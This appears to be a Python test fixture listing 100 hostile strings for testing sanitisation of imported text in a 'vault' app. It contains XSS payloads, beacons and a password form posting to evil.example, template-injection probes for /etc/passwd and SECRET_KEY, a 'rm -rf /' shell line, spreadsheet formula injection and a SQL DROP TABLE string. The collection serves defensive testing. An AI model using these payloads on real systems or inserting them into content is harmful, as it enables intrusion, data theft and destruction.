"""A hundred hostile texts, as a vendor's export or an app may bring them into a vault."""

_PWN = "window.pwned = 1"
_EVIL = "https://evil.example"

SCRIPTS = (
    f"<script>{_PWN}</script>",
    f"<script src='{_EVIL}/x.js'></script>",
    f"<SCRIPT>{_PWN}</SCRIPT >",
    f"<scr<script>ipt>{_PWN}</scr</script>ipt>",
    f"<script type=module>{_PWN}</script>",
    f"<script nonce=''>{_PWN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_PWN!r}>'></noscript>",
    f"</textarea></title></style><script>{_PWN}</script>",
    f"\"'><script>{_PWN}</script>",
    f"--><script>{_PWN}</script><!--",
    f"]]><script>{_PWN}</script>",
    f"</script><script>{_PWN}</script>",
    f"<!--><script>{_PWN}</script>-->",
    f"<%00script>{_PWN}</script>",
)
HANDLERS = (
    f"<img src=x onerror='{_PWN}'>",
    f"<svg onload='{_PWN}'><circle r='9'/></svg>",
    f"<body onload='{_PWN}'>",
    f"<details open ontoggle='{_PWN}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{_PWN}'>",
    f"<video><source onerror='{_PWN}'></video>",
    f"<audio src=x onerror='{_PWN}'></audio>",
    f"<marquee onstart='{_PWN}'>x</marquee>",
    f"<p style='animation: turn 1s' onanimationstart='{_PWN}'>x</p>",
    f"<div onpointerrawupdate='{_PWN}' onmouseover='{_PWN}'>x</div>",
    f"' onmouseover='{_PWN}' x='",
    f'" autofocus onfocus="{_PWN}" x="',
    f"` onmouseover=`{_PWN}` x=`",
    f"x' onfocus='{_PWN}' tabindex='1",
)
FRAMES = (
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    f"<iframe src='{_EVIL}/'></iframe>",
    f"<object data='{_EVIL}/'></object>",
    f"<embed src='{_EVIL}/x.swf'>",
    f"<base href='{_EVIL}/'>",
    f"<meta http-equiv='refresh' content='0;url={_EVIL}/'>",
    f"<link rel=stylesheet href='{_EVIL}/x.css'>",
    f"<link rel=prefetch href='{_EVIL}/beacon'>",
    f"<form action='{_EVIL}/'><input name=password></form>",
    f"<button form=many formaction='{_EVIL}/'>x</button>",
    f"<portal src='{_EVIL}/'></portal>",
    "<dialog open><h1>taken over</h1></dialog>",
)
FOREIGN = (
    f"<svg><script>{_PWN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_PWN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin='{_PWN}' attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_PWN}/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror='{_PWN}'></foreignObject></svg>",
    f"<svg><style><img src=x onerror='{_PWN}'></style></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror='{_PWN}'>",
    f"<math href='javascript:{_PWN}'>x</math>",
    "<math><annotation-xml encoding='text/html'>"
    f"<img src=x onerror='{_PWN}'></annotation-xml></math>",
    f"<table><td><svg><desc><td><img src=x onerror='{_PWN}'>",
)
STYLES = (
    "<style>body { display: none }</style>",
    f"<style>@import '{_EVIL}/x.css';</style>",
    f"<p style='background: url({_EVIL}/beacon)'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 9999'>taken over</p>",
    "<p class='toasts' id='toasts'>taken over</p>",
    "} body { display: none } /*",
    f"<div style=\"--x: url('{_EVIL}/')\">x</div>",
)
LINKS = (
    f"<a href='javascript:{_PWN}' id='bait'>click</a>",
    f"<a href='java\tscript:{_PWN}'>click</a>",
    f"<a href='data:text/html,<script>{_PWN}</script>'>click</a>",
    f"<a href='&#106;avascript:{_PWN}'>click</a>",
    f"<a href='{_EVIL}/' ping='{_EVIL}/beacon'>click</a>",
    f"javascript:{_PWN}//",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQgPSAxPC9zY3JpcHQ+",
    f"![beacon]({_EVIL}/x.png?q=)",
    f"[click](javascript:{_PWN})",
    f"<{_EVIL}/>",
)
HTMX = (
    f"<div hx-get='{_EVIL}/' hx-trigger='load'>x</div>",
    "<div data-hx-get='/lock/' data-hx-trigger='load'>x</div>",
    f"<div hx-on:load='{_PWN}' hx-trigger='load' hx-get='/'>x</div>",
    f"<div hx-on::after-init='{_PWN}'>x</div>",
    "<hx-partial hx-target='body'><h1>taken over</h1></hx-partial>",
    "<template hx type='partial' hx-target='body'><h1>taken over</h1></template>",
    "<p id='toasts' hx-swap-oob='true'>taken over</p>",
    "<form hx-post='/lock/' hx-trigger='load' hx-nonce=''><input name=next></form>",
    "<div hx-vals='js:{a: window.pwned = 1}' hx-get='/' hx-trigger='load'>x</div>",
    "<main id='results'><h1>taken over</h1></main>",
    "<button data-undo data-key='e h m'>taken over</button>",
    "<div data-copy='#secret' data-close='main'>x</div>",
)
TEMPLATES = (
    "{{ request.user.password }} {% load ui %} {% csrf_token %}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "{% endblock %}{% endpartialdef %}{% comment %}",
    "<c-head title='x' /> <c-toast />",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(count)s %s %d {0} {} {this.__class__}",
    "$(id) `id` ; rm -rf /",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
ENTITIES = (
    f"&lt;script&gt;{_PWN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_PWN}&#62;",
    "&amp;lt;b&amp;gt; &notin &copy",
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039script\u203a",
    "<p>unclosed <b>and <i>never <a href='",
    "<!-- never closed",
    "<![CDATA[<b>x</b>]]>",
    "</main></body></html><h1>taken over</h1>",
    "</li></ul></div></form>",
    "'; DROP TABLE vault_memory; --",
    "a" + "\u0301" * 200,
)
HOSTILE = [
    *SCRIPTS,
    *HANDLERS,
    *FRAMES,
    *FOREIGN,
    *STYLES,
    *LINKS,
    *HTMX,
    *TEMPLATES,
    *ENTITIES,
]
assert len(HOSTILE) == len(set(HOSTILE)) == 100, len(HOSTILE)
